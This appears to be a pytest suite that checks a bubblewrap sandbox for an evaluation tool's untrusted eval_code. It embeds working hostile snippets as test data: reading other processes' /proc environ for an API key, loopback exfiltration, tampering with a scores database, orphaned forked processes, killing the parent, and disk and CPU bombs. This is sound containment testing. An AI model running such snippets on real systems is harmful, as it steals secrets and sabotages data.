"""eval_code containment: every attack of issue 15 item 1, run for real against the sandbox.

Each attack is also run with ``trust=True`` and no bubblewrap (the unisolated path) where that is
safe, to show the attack code really does what it claims when nothing contains it. Loops in the
hostile code are bounded so a broken sandbox cannot leave anything running for long.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from engine.judge import sandbox
from engine.judge.sandbox import (
    Limits,
    SandboxUnavailableError,
    require_sandbox,
    run_eval_code,
    sandbox_available,
    sandbox_problem,
)
from engine.store import Store

ROOT = Path(__file__).resolve().parents[2]
HISTORY = [{"role": "examiner", "content": "Write result.csv"}, {"role": "agent", "content": "Done."}]
needs_bwrap = pytest.mark.skipif(not sandbox_available(), reason=f"no sandbox: {sandbox_problem()}")

STAND_IN = r'''
import json, sys
from engine.judge.sandbox import run_eval_code
spec = json.loads(sys.argv[1])
r = run_eval_code(spec["code"], [{"role": "agent", "content": "x"}], timeout=spec.get("timeout", 10.0),
                  workdir=spec.get("workdir"), trust=spec.get("trust", False))
print(json.dumps({"hit": r.hit, "reason": r.reason, "isolated": r.isolated}), flush=True)
'''


def no_bwrap_path(tmp_path: Path) -> str:
    """A PATH without bubblewrap on it."""
    empty = tmp_path / "no-bwrap-bin"
    empty.mkdir(exist_ok=True)
    return str(empty)


def stand_in(tmp_path: Path, spec: dict, extra_env: dict[str, str], home: Path | None = None,
             isolated: bool = True) -> subprocess.CompletedProcess:
    """Run viva's side in a separate process (the attacks' "parent"), with secrets in its start-up env."""
    env = {**os.environ, "PYTHONPATH": str(ROOT), **extra_env}
    if not isolated:
        env["PATH"] = no_bwrap_path(tmp_path)
        spec = {**spec, "trust": True}
    argv = [sys.executable, "-c", STAND_IN, json.dumps(spec)]
    if home is not None:
        argv += ["--home", str(home)]
    return subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)


def result_of(proc: subprocess.CompletedProcess) -> dict:
    assert proc.returncode == 0, f"viva's stand-in died (status {proc.returncode}): {proc.stderr[-800:]}"
    return json.loads(proc.stdout.strip().splitlines()[-1])


def procs_named(name: str) -> list[int]:
    """Pids of live (not zombie) processes whose /proc/<pid>/comm is ``name``."""
    found = []
    for e in os.listdir("/proc"):
        if e.isdigit():
            try:
                stat = Path(f"/proc/{e}/stat").read_text()
                if Path(f"/proc/{e}/comm").read_text().strip() == name and stat.rsplit(")", 1)[1].split()[0] != "Z":
                    found.append(int(e))
            except (OSError, IndexError):
                pass
    return found


def kill_all(pids: list[int]) -> None:
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


# -- 1. the parent's environment ------------------------------------------------------------------
ENVIRON_ATTACK = r'''
import os
key = KEY.encode()
found = []
pids = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
for pid in sorted(pids):
    try:
        data = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    if key in data:
        found.append(pid)
assert key not in b"".join(k.encode() + v.encode() for k, v in os.environ.items()), "ESCAPED: key in own env"
assert not found, f"ESCAPED: key read from /proc/{found}/environ"
'''


def environ_attack(tmp_path: Path, isolated: bool) -> dict:
    key = f"sk-fake-{uuid.uuid4().hex}"
    code = ENVIRON_ATTACK.replace("KEY", repr(key))
    return result_of(stand_in(tmp_path, {"code": code}, {"OPENAI_API_KEY": key}, isolated=isolated))


@needs_bwrap
def test_parent_environ_is_unreadable(tmp_path):
    r = environ_attack(tmp_path, isolated=True)
    assert r["isolated"] and r["hit"], r["reason"]


def test_parent_environ_attack_works_without_isolation(tmp_path):
    r = environ_attack(tmp_path, isolated=False)
    assert not r["isolated"] and not r["hit"] and "ESCAPED: key read from /proc/" in r["reason"]


# -- 2. network -------------------------------------------------------------------------------------
def tcp_attack(tmp_path: Path, trust: bool) -> tuple:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    accepted.append(conn.recv(100))
                except OSError:
                    accepted.append(b"")
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    code = (f"import socket\nerrors = []\nfor host in ('127.0.0.1', 'localhost', '::1'):\n"
            f"    try:\n        s = socket.create_connection((host, {port}), timeout=2)\n"
            f"    except OSError as e:\n        errors.append(repr(e))\n        continue\n"
            f"    s.sendall(b'GET /stolen HTTP/1.0\\r\\n\\r\\n')\n    s.close()\n"
            f"    raise AssertionError('ESCAPED: connected to ' + host)\n")
    try:
        if trust:
            r = run_eval_code(code, HISTORY, trust=True)
        else:
            r = run_eval_code(code, HISTORY)
    finally:
        stop.set()
        t.join()
        server.close()
    return r, accepted


@needs_bwrap
def test_no_tcp_to_a_loopback_server(tmp_path):
    r, accepted = tcp_attack(tmp_path, trust=False)
    assert r.isolated and r.hit, r.reason
    assert accepted == []


def test_tcp_attack_works_without_isolation(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    r, accepted = tcp_attack(tmp_path, trust=True)
    assert not r.isolated and not r.hit and "ESCAPED: connected" in r.reason
    assert accepted and accepted[0].startswith(b"GET /stolen")


# -- 3. the data home -----------------------------------------------------------------------------
HOME_ATTACK = r'''
import os, sqlite3
homes = {KNOWN}
for pid in {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}:
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    for i, a in enumerate(argv[:-1]):
        if a == b"--home":
            homes.add(argv[i + 1].decode())
done = []
for home in sorted(homes):
    try:
        open(os.path.join(home, "planted.txt"), "w").write("owned")
        done.append("planted " + home)
    except OSError:
        pass
    db = os.path.join(home, "viva.db")
    if os.path.exists(db):
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE sessions SET score = 99.9")
            con.execute("CREATE TABLE pwned (x)")
            con.commit()
            done.append("updated " + db)
        except sqlite3.Error:
            pass
assert not done, "ESCAPED: " + "; ".join(done)
'''


def home_attack(tmp_path: Path, isolated: bool, knows_path: bool) -> tuple[dict, Path]:
    home = tmp_path / "viva-home"
    home.mkdir()
    Store(home / "viva.db").close()
    code = HOME_ATTACK.replace("KNOWN", repr(str(home)) if knows_path else "")
    if not knows_path:
        code = code.replace("homes = {}", "homes = set()")
    if not isolated:  # never scan /proc unisolated: that would reach other viva homes on the machine
        code = code.replace('for pid in {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}:',
                            "for pid in []:")
    return result_of(stand_in(tmp_path, {"code": code}, {}, home=home, isolated=isolated)), home


def home_untouched(home: Path) -> bool:
    con = sqlite3.connect(home / "viva.db")
    try:
        pwned = con.execute("SELECT count(*) FROM sqlite_master WHERE name = 'pwned'").fetchone()[0]
    finally:
        con.close()
    return pwned == 0 and not (home / "planted.txt").exists()


@needs_bwrap
@pytest.mark.parametrize("knows_path", [False, True], ids=["via-cmdline", "path-known"])
def test_data_home_is_out_of_reach(tmp_path, knows_path):
    r, home = home_attack(tmp_path, isolated=True, knows_path=knows_path)
    assert r["isolated"] and r["hit"], r["reason"]
    assert home_untouched(home)


def test_data_home_attack_works_without_isolation(tmp_path):
    # The path is given: an unisolated scan of /proc would find (and damage) every other viva home on
    # the machine, e.g. a concurrent test run's.
    r, home = home_attack(tmp_path, isolated=False, knows_path=True)
    assert not r["hit"] and "ESCAPED: planted" in r["reason"] and "updated" in r["reason"]
    assert not home_untouched(home)


# -- 4. processes that try to outlive the run -----------------------------------------------------
ORPHAN_ATTACK = r'''
import ctypes, os, time
libc = ctypes.CDLL(None)
for i in range(30):
    if os.fork() == 0:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        libc.prctl(15, NAME, 0, 0, 0)  # PR_SET_NAME, so the test can find them
        for _ in range(300):  # bounded: about 30 s
            time.sleep(0.1)
        os._exit(0)
    os.wait()
time.sleep(0.3)
'''


def orphan_attack(trust: bool) -> tuple:
    name = f"vv{uuid.uuid4().hex[:10]}"
    code = ORPHAN_ATTACK.replace("NAME", repr(name.encode()))
    r = run_eval_code(code, HISTORY, trust=trust)
    survivors = procs_named(name)
    kill_all(survivors)
    return r, survivors


@needs_bwrap
def test_forked_children_do_not_outlive_the_run():
    r, survivors = orphan_attack(trust=False)
    assert r.isolated and r.hit, r.reason
    assert survivors == []


def test_orphan_attack_works_without_isolation(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    r, survivors = orphan_attack(trust=True)
    assert not r.isolated and len(survivors) == 30


@needs_bwrap
def test_timeout_kills_every_process_of_the_sandbox():
    name = f"vt{uuid.uuid4().hex[:10]}"
    code = ("import ctypes, os, time\nfor i in range(5):\n    if os.fork() == 0:\n        os.setsid()\n"
            f"        ctypes.CDLL(None).prctl(15, {name.encode()!r}, 0, 0, 0)\n"
            "        for _ in range(600):\n            time.sleep(0.05)\n        os._exit(0)\n"
            "for _ in range(600):\n    time.sleep(0.05)\n")
    r = run_eval_code(code, HISTORY, timeout=1.0)
    survivors = procs_named(name)
    kill_all(survivors)
    assert r.timed_out and r.reason == "timed out" and survivors == []


@needs_bwrap
def test_process_limit():
    code = ("import os, signal, time\nkids = []\nfor i in range(200):\n    try:\n        pid = os.fork()\n"
            "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(10)\n        os._exit(0)\n"
            "    kids.append(pid)\ntime.sleep(2)\nfor k in kids:\n    os.kill(k, signal.SIGKILL)\n"
            "assert len(kids) <= 16, f'{len(kids)} children'\n")
    r = run_eval_code(code, HISTORY, limits=Limits(max_processes=16))
    if os.geteuid() == 0:  # Linux exempts uid 0 from RLIMIT_NPROC: the watchdog ends it
        assert not r.hit and r.reason == "process limit: more than 16 processes"
    else:
        assert r.hit, r.reason


# -- 5. killing viva --------------------------------------------------------------------------------
KILL_ATTACK = r'''
import os, signal, time
os.kill(os.getppid(), signal.SIGKILL)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"STAND_IN_MARK" in open(f"/proc/{pid}/cmdline", "rb").read() and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
time.sleep(0.2)
'''


@needs_bwrap
def test_killing_the_parent_fails(tmp_path):
    proc = stand_in(tmp_path, {"code": KILL_ATTACK.replace("STAND_IN_MARK", "run_eval_code")}, {})
    r = result_of(proc)  # the stand-in survived and reported
    # As root the code is nobody and may not even signal the sandbox's (root) init: refused outright.
    assert r["isolated"] and (r["hit"] or r["reason"].startswith("PermissionError")), r["reason"]


def test_kill_attack_works_without_isolation(tmp_path):
    # Only the parent is shot: unisolated, a search of /proc would also hit other test runs' stand-ins.
    proc = stand_in(tmp_path, {"code": KILL_ATTACK.replace("STAND_IN_MARK", f"no-such-process-{tmp_path.name}")},
                    {}, isolated=False)
    assert proc.returncode == -signal.SIGKILL


# -- 6. disk and CPU --------------------------------------------------------------------------------
@needs_bwrap
def test_file_size_bomb(tmp_path):
    work = tmp_path / "agent"
    work.mkdir()
    code = ("chunk = b'x' * (1024 * 1024)\nwith open('bomb.bin', 'wb') as f:\n"
            "    for _ in range(256):\n        f.write(chunk)\n        f.flush()\n")
    r = run_eval_code(code, HISTORY, workdir=work, limits=Limits(max_file_mb=8))
    assert not r.hit and "File too large" in r.reason
    assert not (work / "bomb.bin").exists()  # the code writes in a tmpfs copy of the workdir (issue 35)


@needs_bwrap
def test_tmp_is_small_and_fresh(tmp_path):
    outside = Path("/tmp") / f"viva-outside-{uuid.uuid4().hex}"
    outside.write_text("host file")
    try:
        code = (f"import os\nassert not os.path.exists({str(outside)!r}), 'host /tmp visible'\n"
                "total = 0\nfor i in range(64):\n    try:\n"
                "        with open(f'/tmp/fill{i}', 'wb') as f:\n            f.write(b'x' * (1024 * 1024))\n"
                "        total += 1\n    except OSError as e:\n        assert e.errno == 28, e\n        break\n"
                "assert total <= 16, total\n")
        r = run_eval_code(code, HISTORY, limits=Limits(tmp_mb=16))
    finally:
        outside.unlink()
    assert r.hit, r.reason


@needs_bwrap
def test_infinite_loop_times_out():
    r = run_eval_code("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
                      HISTORY, timeout=1.0)
    assert not r.hit and r.timed_out and r.reason == "timed out"


@needs_bwrap
def test_cpu_limit_ends_a_busy_loop_before_the_wall_clock():
    r = run_eval_code("while True:\n    pass", HISTORY, timeout=60.0, limits=Limits(cpu_seconds=1))
    assert not r.hit and not r.timed_out and r.reason.startswith("killed by signal")


@needs_bwrap
def test_only_the_workdir_is_writable(tmp_path):
    work = tmp_path / "agent"
    work.mkdir()
    targets = [os.path.realpath(sys.base_prefix), "/usr", "/", "/etc", *sandbox._site_dirs()]
    code = (f"import os\nwritten = []\nfor d in {targets!r}:\n    try:\n"
            "        open(os.path.join(d, 'viva-escape.txt'), 'w').write('x')\n        written.append(d)\n"
            "    except OSError:\n        pass\nassert not written, written\n"
            "open('inside.txt', 'w').write('ok')\n")
    r = run_eval_code(code, HISTORY, workdir=work)
    assert r.hit, r.reason
    assert not (work / "inside.txt").exists()  # written in the tmpfs copy, gone with it (issue 35)
    above = str(tmp_path)  # the workdir's parent exists inside only as an empty, throw-away directory
    r = run_eval_code(f"open({above!r} + '/viva-escape.txt', 'w').write('x')", HISTORY, workdir=work)
    assert not any(Path(d, "viva-escape.txt").exists() for d in [*targets, above])


# -- the agent's working directory (issue 12 item 5) ----------------------------------------------
def agent_workdir_case(tmp_path: Path) -> tuple[Path, Path, str]:
    """An "agent" that wrote result.csv in its working directory, and a case whose code checks it."""
    work = tmp_path / "agent-work"
    work.mkdir()
    data = tmp_path / "case-data"
    data.mkdir()
    (data / "demo_data.csv").write_text("count\n1\n2\n", encoding="utf-8")
    (work / "demo_data.csv").write_text("count\n1\n2\n", encoding="utf-8")
    (work / "demo_data.csv").unlink()  # the agent deleted the input ...
    (work / "result.csv").write_text("total\n3\n", encoding="utf-8")  # ... and wrote its result
    code = ("import csv, os\nrows = list(csv.DictReader(open('result.csv')))\n"
            "assert rows == [{'total': '3'}], rows\nassert not os.path.exists('demo_data.csv')\n"
            "assert 'Done' in chat_history[-1].content\n")
    return work, data, code


@needs_bwrap
def test_eval_code_sees_the_agents_files(tmp_path):
    work, data, code = agent_workdir_case(tmp_path)
    r = run_eval_code(code, HISTORY, data_dir=data, workdir=work)
    assert r.isolated and r.hit, r.reason
    assert run_eval_code(code, HISTORY, data_dir=data).reason.startswith("FileNotFoundError")


def test_trusted_eval_code_sees_the_agents_files(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    work, data, code = agent_workdir_case(tmp_path)
    r = run_eval_code(code, HISTORY, data_dir=data, workdir=work, trust=True)
    assert not r.isolated and r.hit, r.reason


def test_missing_workdir_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="working directory .* does not exist"):
        run_eval_code("pass", HISTORY, workdir=tmp_path / "nope", trust=True)


# -- without bubblewrap ---------------------------------------------------------------------------
def test_refused_without_bubblewrap_unless_trusted(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    work = tmp_path / "w"
    work.mkdir()
    code = "open('ran.txt', 'w').write('x')"
    with pytest.raises(SandboxUnavailableError) as err:
        run_eval_code(code, HISTORY, workdir=work)
    msg = str(err.value)
    assert "apt-get install bubblewrap" in msg and "--trust-eval-code" in msg and "\n" not in msg
    assert not (work / "ran.txt").exists()
    with pytest.raises(SandboxUnavailableError):
        require_sandbox(False)
    assert require_sandbox(True) is False
    assert not sandbox_available() and "not on PATH" in sandbox_problem()
    r = run_eval_code(code, HISTORY, workdir=work, trust=True)
    assert r.hit and not r.isolated and (work / "ran.txt").exists()


def test_trusted_code_keeps_limits_and_a_clean_env(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    monkeypatch.setenv("OPENAI_API_KEY", "sk-should-not-leak")
    monkeypatch.setenv("VIVA_HOME", str(tmp_path / "home"))
    code = ("import os, resource\nleaked = [k for k in os.environ if 'KEY' in k or 'VIVA' in k]\n"
            "assert not leaked, leaked\n"
            "assert resource.getrlimit(resource.RLIMIT_FSIZE) == (8 * 1024 * 1024,) * 2\n"
            "assert resource.getrlimit(resource.RLIMIT_NOFILE) == (100, 100)\n"
            "assert resource.getrlimit(resource.RLIMIT_AS) == (300 * 1024 * 1024,) * 2\n"
            "assert resource.getrlimit(resource.RLIMIT_CPU) == (4, 5)\n"
            "assert resource.getrlimit(resource.RLIMIT_NPROC)[0] != resource.RLIM_INFINITY\n")
    r = run_eval_code(code, HISTORY, timeout=2.5, trust=True,
                      limits=Limits(memory_mb=300, max_file_mb=8, max_open_files=100))
    assert r.hit and not r.isolated, r.reason


def test_trusted_timeout_kills_the_process_group(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    name = f"vg{uuid.uuid4().hex[:10]}"
    code = ("import ctypes, os, time\nif os.fork() == 0:\n"
            f"    ctypes.CDLL(None).prctl(15, {name.encode()!r}, 0, 0, 0)\n"
            "    for _ in range(600):\n        time.sleep(0.05)\n    os._exit(0)\n"
            "for _ in range(600):\n    time.sleep(0.05)\n")
    r = run_eval_code(code, HISTORY, timeout=1.0, trust=True)
    survivors = procs_named(name)
    kill_all(survivors)
    assert r.timed_out and survivors == []


# -- viva itself: non-dumpable ----------------------------------------------------------------------
DUMPABLE_TARGET = r'''
import importlib.util, sys
spec = importlib.util.spec_from_file_location("viva_security", sys.argv[1])
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
if sys.argv[2] == "1":
    assert mod.make_non_dumpable() is True and mod.is_dumpable() is False
else:
    assert mod.is_dumpable() is True
print("ready", flush=True)
sys.stdin.readline()
'''
ENVIRON_READER = r'''
import sys
try:
    data = open(f"/proc/{sys.argv[1]}/environ", "rb").read()
except PermissionError:
    print("denied")
else:
    print("found" if sys.argv[2].encode() in data else "absent")
'''


def read_environ_as_same_user(non_dumpable: bool) -> str:
    """Start a process holding a key, then read its /proc/<pid>/environ as another process of its user."""
    if os.geteuid() == 0:  # root may read anything: both sides run as an ordinary user instead
        python = "/usr/bin/python3"
        if not os.access(python, os.X_OK):
            pytest.skip("running as root and no /usr/bin/python3 to run as an unprivileged user")
        as_user = {"user": 65534, "group": 65534, "extra_groups": []}
    else:
        python, as_user = sys.executable, {}
    key = f"sk-fake-{uuid.uuid4().hex}"
    security = str(ROOT / "engine" / "security.py")
    target = subprocess.Popen([python, "-I", "-c", DUMPABLE_TARGET, security, "1" if non_dumpable else "0"],
                              env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": key}, stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True, cwd="/", **as_user)
    try:
        assert target.stdout.readline().strip() == "ready"
        reader = subprocess.run([python, "-I", "-c", ENVIRON_READER, str(target.pid), key], capture_output=True,
                                text=True, timeout=30, cwd="/", **as_user)
        return reader.stdout.strip() or reader.stderr
    finally:
        target.communicate("\n", timeout=30)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_DUMPABLE is Linux only")
def test_non_dumpable_viva_hides_its_environ_from_the_same_user():
    assert read_environ_as_same_user(non_dumpable=False) == "found"
    assert read_environ_as_same_user(non_dumpable=True) == "denied"


@needs_bwrap
def test_a_data_home_inside_the_workdir_is_hidden(tmp_path):
    project = tmp_path / "project"  # an agent working in the project folder that also holds ./.viva
    home = project / ".viva"
    home.mkdir(parents=True)
    Store(home / "viva.db").close()
    code = HOME_ATTACK.replace("KNOWN", repr(str(home)))
    r = run_eval_code(code, HISTORY, workdir=project, hide=[home])
    assert r.hit, r.reason
    assert home_untouched(home)
    assert run_eval_code("import os\nassert os.listdir('.viva') == [], os.listdir('.viva')", HISTORY,
                         workdir=project, hide=[home]).hit
    with pytest.raises(ValueError, match="must not reach"):
        run_eval_code("pass", HISTORY, workdir=home, hide=[home])
